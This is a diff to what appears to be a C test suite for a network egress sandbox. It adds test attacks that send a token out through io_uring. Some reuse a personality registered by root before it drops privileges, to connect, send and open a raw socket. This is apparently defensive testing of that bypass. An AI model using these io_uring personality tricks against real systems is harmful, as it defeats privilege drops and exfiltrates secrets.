@@ -54,21 +54,31 @@ static int operate(struct ring *ring, struct io_uring_sqe operation, const char 
     return result;
 }
 
-static void connect_and_send(struct ring *ring, int fd)
+// With the credentials of a personality that was registered; 0 for one's own.
+static void connect_and_send_as(struct ring *ring, int fd, uint16_t personality)
 {
     struct sockaddr_in to = v4("WIRE4", "PORT");
     operate(ring,
-            (struct io_uring_sqe){
-                .opcode = IORING_OP_CONNECT, .fd = fd, .addr = (uintptr_t)&to, .off = sizeof to},
+            (struct io_uring_sqe){.opcode = IORING_OP_CONNECT,
+                                  .fd = fd,
+                                  .addr = (uintptr_t)&to,
+                                  .off = sizeof to,
+                                  .personality = personality},
             "connect");
     operate(ring,
             (struct io_uring_sqe){.opcode = IORING_OP_SEND,
                                   .fd = fd,
                                   .addr = (uintptr_t)token(),
                                   .len = (uint32_t)strlen(token()),
-                                  .msg_flags = MSG_NOSIGNAL},
+                                  .msg_flags = MSG_NOSIGNAL,
+                                  .personality = personality},
             "send");
     sent();
+}
+
+static void connect_and_send(struct ring *ring, int fd)
+{
+    connect_and_send_as(ring, fd, 0);
 }
 
 ATTACK(uring_connect)
@@ -94,5 +104,34 @@ ATTACK(uring_sendmsg)
     operate(&ring,
             (struct io_uring_sqe){.opcode = IORING_OP_SENDMSG, .fd = udp4(), .addr = (uintptr_t)&message, .len = 1},
             "sendmsg");
+    sent();
+}
+
+static struct ring roots;
+static uint16_t root;
+
+// Root makes a ring and registers itself with it, as a service may that then gives up its privileges.
+static void register_root(void)
+{
+    roots = set_up();
+    root = (uint16_t)must((int)syscall(SYS_io_uring_register, roots.fd, IORING_REGISTER_PERSONALITY, NULL, 0),
+                          "io_uring_register");
+}
+
+ATTACK_AFTER(uring_personality, register_root) { connect_and_send_as(&roots, tcp4(), root); }
+
+// Only CAP_NET_RAW may make such a socket; whoever holds it may send.
+ATTACK_AFTER(uring_personality_raw, register_root)
+{
+    struct sockaddr_in to = v4("WIRE4", "PORT");
+    to.sin_port = 0;
+    int fd = operate(&roots,
+                     (struct io_uring_sqe){.opcode = IORING_OP_SOCKET,
+                                           .fd = AF_INET,
+                                           .off = SOCK_RAW,
+                                           .len = 253 /* for experiments: RFC 3692 */,
+                                           .personality = root},
+                     "socket");
+    send_token_to(fd, &to, sizeof to);
     sent();
 }
